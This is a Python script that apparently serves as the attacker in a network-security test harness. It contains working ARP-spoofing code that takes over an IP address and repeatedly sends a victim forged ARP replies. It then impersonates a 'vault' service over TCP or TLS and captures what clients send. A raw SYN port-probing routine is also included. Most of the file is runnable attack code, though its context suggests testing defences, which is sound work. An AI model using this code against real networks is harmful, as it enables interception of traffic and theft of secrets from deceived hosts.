"""An attacker on the wire with NET_RAW and NET_ADMIN in a namespace of its own.

One line of JSON on standard input. "steal": take `address`, tell the deceived host so by
ARP, and serve on it until standard input ends; for every further line tell what came so
far. "syn": send single SYN frames and tell which were answered.
"""

import fcntl
import json
import select
import socket
import ssl
import struct
import sys
import tempfile
import threading
import time

SIOCGIFADDR, SIOCSIFADDR, SIOCGIFHWADDR = 0x8915, 0x8916, 0x8927
DEVICE = b"eth0"


def ask_interface(request):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        return fcntl.ioctl(line, request, struct.pack("256s", DEVICE))


OWN_MAC = ask_interface(SIOCGIFHWADDR)[18:24]
OWN_IP = ask_interface(SIOCGIFADDR)[20:24]


def raw_line(kind):
    line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(kind))
    line.bind((DEVICE.decode(), kind))
    return line


def hardware(text):
    return bytes.fromhex(text.replace(":", ""))


# --- steal ------------------------------------------------------------------------


def take_address(address):
    alias = struct.pack("16sHH4s8x", DEVICE + b":1", socket.AF_INET, 0, address)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        fcntl.ioctl(line, SIOCSIFADDR, alias)


def deceive(address, victim_address, victim_mac):
    """Tell the victim again and again that `address` is here (RFC 826 replies)."""
    line = raw_line(0x0806)
    reply = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
    reply += OWN_MAC + address + victim_mac + victim_address
    while True:
        line.send(victim_mac + OWN_MAC + struct.pack("!H", 0x0806) + reply)
        time.sleep(0.02)


def steal(order):
    address = socket.inet_aton(order["address"])
    take_address(address)
    victim_address, victim_mac = order["deceived"]
    deceiving = (address, socket.inet_aton(victim_address), hardware(victim_mac))
    threading.Thread(target=deceive, args=deceiving, daemon=True).start()
    context = None
    if order["pem"]:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        with tempfile.NamedTemporaryFile("w", suffix=".pem") as file:
            file.write(order["pem"])
            file.flush()
            context.load_cert_chain(file.name)
    found = {"hellos": 0, "raw": "", "decrypted": ""}
    listener = socket.create_server((order["address"], order["port"]))
    print("ready", flush=True)
    while True:
        ready, _, _ = select.select([listener, sys.stdin], [], [])
        if listener in ready:
            line, _ = listener.accept()
            with line:
                serve(line, context, found)
        elif sys.stdin.readline():
            print(json.dumps(found), flush=True)
        else:
            return


def serve(line, context, found):
    line.settimeout(1)
    try:
        # A handshake record that holds a ClientHello (RFC 8446, 5.1 and 4).
        first = line.recv(6, socket.MSG_PEEK)
        found["hellos"] += first[:1] == b"\x16" and first[5:6] == b"\x01"
        if context is None:
            line.sendall(b"forged: I am vault\n")
            found["raw"] += line.recv(65536).decode("latin-1")
            return
        with context.wrap_socket(line, server_side=True) as inner:
            inner.sendall(b"forged: I am vault\n")
            found["decrypted"] += inner.recv(65536).decode("latin-1")
    except OSError:
        return


# --- syn --------------------------------------------------------------------------


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(target_mac, target, port, own_port):
    target = socket.inet_aton(target)
    head = struct.pack("!HHIIBBHHH", own_port, port, 1, 0, 5 << 4, 2, 8192, 0, 0)
    total = checksum(OWN_IP + target + struct.pack("!BBH", 0, 6, len(head)) + head)
    head = head[:16] + struct.pack("!H", total) + head[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 1, 0, 64, 6, 0, OWN_IP, target)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return hardware(target_mac) + OWN_MAC + struct.pack("!H", 0x0800) + ip + head


def answered(line, own_port, end):
    """Whether a SYN-ACK for `own_port` arrives in time."""
    while (left := end - time.monotonic()) > 0:
        line.settimeout(left)
        try:
            frame = line.recv(2048)
        except TimeoutError:
            break
        tcp = frame[34:]
        if frame[23:24] == b"\x06" and frame[30:34] == OWN_IP and len(tcp) >= 20:
            port, flags = struct.unpack("!H", tcp[2:4])[0], tcp[13]
            if port == own_port and flags & 0x12 == 0x12:
                return True
    return False


def send_syns(order):
    line = raw_line(0x0800)
    print("ready", flush=True)
    found = []
    for number, (target_mac, target, port, seconds) in enumerate(order["targets"]):
        line.send(syn(target_mac, target, port, 40000 + number))
        found.append(answered(line, 40000 + number, time.monotonic() + seconds))
    print(json.dumps(found))


if __name__ == "__main__":
    given = json.loads(sys.stdin.readline())
    steal(given) if given["mode"] == "steal" else send_syns(given)
